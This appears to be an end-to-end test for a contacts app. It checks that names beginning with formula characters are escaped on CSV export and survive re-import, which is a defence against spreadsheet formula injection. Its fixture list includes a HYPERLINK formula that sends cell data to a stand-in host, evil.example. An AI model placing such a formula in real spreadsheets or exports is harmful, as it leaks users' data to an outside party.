import { readFile } from 'node:fs/promises'
import Papa from 'papaparse'
import type { Contact } from '#src/contract/contacts.ts'
import { storedContacts } from '#tests/support/data/contacts.ts'
import { sendTo } from '#tests/support/data/tasks.ts'
import { expect, open, test } from '#tests/support/test.ts'

const formulas = [
  '=HYPERLINK("http://evil.example?x="&A1,"Bấm")',
  '+84 là đầu số',
  '-2+3',
  '@SUM(A1)',
  "'=1+1",
  "''=1+1",
]

test('row 46: formulas in names are exported as texts, and are imported unchanged', async ({ page, say }) => {
  await open(page, 'apps/contacts')
  for (const name of formulas) {
    const { id } = await sendTo<Contact>(page, 'POST', '/api/apps/contacts/contact')
    await sendTo(page, 'PATCH', '/api/apps/contacts/contact', { id, contact: { name, company: 'Công thức' } })
  }
  await page.reload()
  const exporting = page.waitForEvent('download')
  await page.getByRole('button', { name: say('More actions'), exact: true }).click()
  await page.getByRole('menuitem', { name: say('CSV, a table for Excel') }).click()
  const file = await readFile(await (await exporting).path())
  const cells = Papa.parse<string[]>(file.toString()).data.flat()
  expect(cells).toContain(`'${formulas[0]}`)
  expect(cells.filter(cell => /^[=+\-@\t\r]/.test(cell))).toEqual([])

  const ids = (await storedContacts(page))
    .filter(({ company }) => company === 'Công thức')
    .map(({ id }) => id)
  expect(ids).toHaveLength(formulas.length)
  for (const id of ids) await sendTo(page, 'DELETE', `/api/apps/contacts/contact?id=${id}`)
  await page.goto('apps/contacts?do=import')
  const dialog = page.getByRole('dialog', { name: say('Import contacts') })
  await dialog
    .locator('input[type=file]')
    .setInputFiles({ name: 'lai.csv', mimeType: 'text/csv', buffer: file })
  const go = dialog.locator('footer button').last()
  await expect(go).toContainText(String(formulas.length))
  await go.click()
  await expect(dialog).toBeHidden()
  const back = (await storedContacts(page))
    .filter(({ company }) => company === 'Công thức')
    .map(({ name }) => name)
  expect(back.toSorted()).toEqual(formulas.toSorted())
})
